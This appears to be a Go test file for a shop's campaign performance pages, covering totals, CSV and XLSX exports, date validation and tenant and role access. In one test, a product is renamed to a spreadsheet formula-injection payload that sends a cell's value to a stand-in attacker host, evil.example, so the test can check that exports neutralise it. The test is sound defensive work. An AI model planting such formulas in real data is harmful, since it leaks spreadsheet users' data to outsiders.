package web_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"
	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"
)

// The settled world's campaign order S-1 (placed 2025-12-01 in Los
// Angeles): merchandise $220.00 (the campaign lamp 2 × $100 − $10, a plain
// mug $30), one lamp returned ($95.00 back): sales $125.00; fee $1.95 with
// $0.95 refunded; coupon $38.00, the seller's $19.00 less $9.50 back;
// payout $119.50. S-2 has no campaign line.

func TestManageYourCampaignsYear(t *testing.T) {
	t.Parallel()
	w := settledWorld(t)
	b := w.browser()
	b.signIn("seller@x.test")
	rec := b.get("/campaigns")
	if !strings.Contains(rec.Body.String(), `href="/campaigns/performance"`) {
		t.Fatal("no link to Manage your campaigns from the campaign list")
	}
	rec = b.get("/campaigns/performance?year=2025")
	wantStatus(t, rec, http.StatusOK)
	doc := parse(t, rec)
	rows := doc.Find(testid("year-row"))
	if rows.Length() != 1 || !strings.Contains(rows.Find(testid("year-row-name")).Text(), w.open.Name) {
		t.Fatalf("rows: %d %q", rows.Length(), rows.Text())
	}
	for id, want := range map[string]string{"row-sales": "$125.00", "row-orders": "1", "row-fee": "$1.00", "row-coupon": "$9.50",
		"row-subsidy": "$9.50", "row-payout": "$119.50"} {
		if got := strings.TrimSpace(rows.Find(testid(id)).Text()); got != want {
			t.Errorf("%s = %q, want %q", id, got, want)
		}
	}
	if got := doc.Find(testid("year-sales")).Text(); got != "$125.00" {
		t.Errorf("year sales %q", got)
	}
	if got := strings.Join(strings.Fields(doc.Find(testid("year-change")).Text()), " "); !strings.Contains(got, "new this year") {
		t.Errorf("change against 2024 (no orders): %q", got)
	}
	// Every figure opens the same orders on Settled records.
	href, _ := rows.Find(testid("row-payout")).Attr("href")
	if !strings.Contains(href, fmt.Sprintf("campaign=%d", w.open.ID)) || !strings.Contains(href, "from=2025-01-01") {
		t.Fatalf("figure link %q", href)
	}
	rec = b.get(href)
	wantStatus(t, rec, http.StatusOK)
	rd := parse(t, rec)
	for id, want := range map[string]string{"total-orders": "1", "total-sales": "$125.00", "total-payout": "$119.50", "total-fee": "$1.95"} {
		if got := strings.TrimSpace(rd.Find(testid(id)).Text()); got != want {
			t.Errorf("settled records %s = %q, want %q", id, got, want)
		}
	}
	// Another year has no campaign.
	rec = b.get("/campaigns/performance?year=2024")
	wantStatus(t, rec, http.StatusOK)
	if parse(t, rec).Find(testid("year-empty")).Length() != 1 {
		t.Error("2024: want the empty state")
	}
	// A year that is not one is refused next to the field.
	rec = b.get("/campaigns/performance?year=abc")
	wantStatus(t, rec, http.StatusUnprocessableEntity)
	if !strings.Contains(rec.Body.String(), "Choose a year") {
		t.Error("bad year: no message")
	}
	// The year's table as CSV adds up to the same figures.
	rec = b.get("/campaigns/performance/export/csv?year=2025")
	wantStatus(t, rec, http.StatusOK)
	recs, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil || len(recs) != 4 {
		t.Fatalf("csv: %v %d rows", err, len(recs))
	}
	if recs[0][7] != "Sales" || recs[1][7] != "125.00" || recs[1][13] != "119.50" || recs[2][7] != "125.00" {
		t.Errorf("csv rows %q", recs)
	}
	rec = b.get("/campaigns/performance/export/xlsx?year=2025")
	wantStatus(t, rec, http.StatusOK)
	book, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if v, _ := book.GetCellValue("Data", "H2"); v != "125.00" {
		t.Errorf("xlsx sales %q", v)
	}
}

func TestViewDataOfACampaign(t *testing.T) {
	t.Parallel()
	w := settledWorld(t)
	b := w.browser()
	b.signIn("seller@x.test")
	page := fmt.Sprintf("/campaigns/%d/performance", w.open.ID)
	rec := b.get(page)
	wantStatus(t, rec, http.StatusOK)
	doc := parse(t, rec)
	for id, want := range map[string]string{"perf-sales": "$125.00", "perf-orders": "1", "perf-payout": "$119.50", "perf-cost": "$10.50",
		"rate-cancelled": "0%", "rate-returned": "100%", "uplift-during": "$125.00", "uplift-before": "$0.00", "uplift-extra": "$125.00"} {
		if got := strings.TrimSpace(doc.Find(testid(id)).Text()); got != want {
			t.Errorf("%s = %q, want %q", id, got, want)
		}
	}
	// The run is three days in Los Angeles; the chart's table has one row
	// a day, the order on Dec 1.
	table := doc.Find(`#chart-sales table tbody tr`)
	if table.Length() != 3 || !strings.Contains(table.Eq(1).Text(), "$125.00") {
		t.Errorf("chart data table: %d rows %q", table.Length(), table.Text())
	}
	// Products: the campaign's lamp, then the mug bought with it, in one
	// row; together they add up to the headline.
	skus := doc.Find(testid("sku-row"))
	if skus.Length() != 2 || !strings.Contains(skus.Eq(0).Text(), "Desk lamp") || !strings.Contains(skus.Eq(1).Text(), "Other products") {
		t.Fatalf("sku rows %q", skus.Text())
	}
	if got := strings.TrimSpace(skus.Eq(0).Find(testid("sku-sales")).Text()); got != "$95.00" {
		t.Errorf("lamp sales %q", got) // 2 × 100 − 10 = 190, one of two returned: 95
	}
	if got := strings.Join(strings.Fields(doc.Find(testid("sku-total")).Text()), " "); !strings.Contains(got, "$125.00") {
		t.Errorf("sku total %q", got)
	}
	// A sub-campaign's figures open its orders on Settled records; a day of
	// the chart's table opens that day's.
	sub := doc.Find(testid("sub-row")).FilterFunction(func(_ int, s *goquery.Selection) bool {
		return strings.TrimSpace(s.Find(testid("sub-orders")).Text()) == "1"
	})
	if sub.Length() != 1 {
		t.Fatalf("sub-campaign rows %q", doc.Find(testid("sub-row")).Text())
	}
	href, _ := sub.Find(testid("sub-payout")).Attr("href")
	rec = b.get(href)
	wantStatus(t, rec, http.StatusOK)
	if got := parse(t, rec).Find(testid("total-payout")).Text(); !strings.Contains(href, "sub=") || got != "$119.50" {
		t.Errorf("sub-campaign records %s: payout %q", href, got)
	}
	dayHref, _ := table.Eq(1).Find("a").Attr("href")
	rec = b.get(dayHref)
	wantStatus(t, rec, http.StatusOK)
	if got := parse(t, rec).Find(testid("total-sales")).Text(); !strings.Contains(dayHref, "from=2025-12-01&to=2025-12-01") || got != "$125.00" {
		t.Errorf("day records %s: sales %q", dayHref, got)
	}
	// The SKU table as CSV: each line's sales add up to the headline.
	rec = b.get(fmt.Sprintf("/campaigns/%d/performance/export/skus/csv", w.open.ID))
	wantStatus(t, rec, http.StatusOK)
	recs, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("sku csv: %v %q", err, recs)
	}
	sum := decimal.Zero
	for _, r := range recs[1:] {
		sum = sum.Add(decimal.RequireFromString(r[8]))
	}
	if sum.StringFixed(2) != "125.00" {
		t.Errorf("sku csv sales add up to %s", sum)
	}
	// Names that a spreadsheet would run as formulas reach it as text.
	w.db.Exec(`UPDATE products SET title = '=HYPERLINK("http://evil.example/?x="&A1,"x")' WHERE title = 'Desk lamp'`)
	rec = b.get(fmt.Sprintf("/campaigns/%d/performance/export/skus/csv", w.open.ID))
	wantStatus(t, rec, http.StatusOK)
	recs, err = csv.NewReader(rec.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range recs {
		for _, cell := range r {
			if strings.Contains(cell, "HYPERLINK") {
				found = true
				if !strings.HasPrefix(cell, "'=") {
					t.Errorf("a formula reaches the spreadsheet live: %q", cell)
				}
			}
		}
	}
	if !found {
		t.Errorf("the renamed product is not in the export: %q", recs)
	}
	for _, table := range []string{"days", "subs", "skus"} {
		rec = b.get(fmt.Sprintf("/campaigns/%d/performance/export/%s/xlsx", w.open.ID, table))
		wantStatus(t, rec, http.StatusOK)
		if _, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes())); err != nil {
			t.Errorf("%s xlsx: %v", table, err)
		}
	}
	// A range with no order, and a bad date next to its field.
	rec = b.get(page + "?from=2025-11-30&to=2025-11-30")
	wantStatus(t, rec, http.StatusOK)
	if got := parse(t, rec).Find(testid("perf-orders")).Text(); got != "0" {
		t.Errorf("Nov 30 orders %q", got)
	}
	rec = b.get(page + "?from=30/11/2025")
	wantStatus(t, rec, http.StatusUnprocessableEntity)
	if got := parse(t, rec).Find(testid("perf-from-error")).Text(); !strings.Contains(got, "Use a date") {
		t.Errorf("bad from: %q", got)
	}
}

// Another shop's campaign, a draft and an unknown id are not found; staff
// are refused the seller's pages.
func TestPerformanceTenancyAndRoles(t *testing.T) {
	t.Parallel()
	w := settledWorld(t)
	north := w.browser()
	north.signIn("seller2@x.test")
	for _, path := range []string{
		fmt.Sprintf("/campaigns/%d/performance", w.open.ID),
		fmt.Sprintf("/campaigns/%d/performance/export/skus/csv", w.open.ID),
		fmt.Sprintf("/campaigns/%d/performance", w.draft.ID),
		"/campaigns/999999/performance",
	} {
		wantStatus(t, north.get(path), http.StatusNotFound)
	}
	rec := north.get("/campaigns/performance?year=2025")
	wantStatus(t, rec, http.StatusOK)
	if strings.Contains(rec.Body.String(), "$125.00") {
		t.Error("Northwind sees Maple's figures")
	}
	for _, who := range []string{"manager@x.test", "reviewer@x.test"} {
		b := w.browser()
		b.signIn(who)
		wantStatus(t, b.get("/campaigns/performance"), http.StatusForbidden)
		wantStatus(t, b.get(fmt.Sprintf("/campaigns/%d/performance", w.open.ID)), http.StatusForbidden)
	}
}
